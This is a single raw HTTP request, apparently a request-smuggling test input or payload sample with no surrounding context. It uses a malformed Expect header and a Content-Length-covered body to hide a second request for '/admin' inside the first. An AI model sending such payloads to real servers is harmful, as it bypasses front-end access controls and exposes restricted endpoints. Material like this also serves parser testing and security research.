GET http://example.com/a?b HTTP/1.1
Host: example.com
Expect: y 100-continue
Content-Length: 38

0

GET /admin HTTP/1.1
Host: x

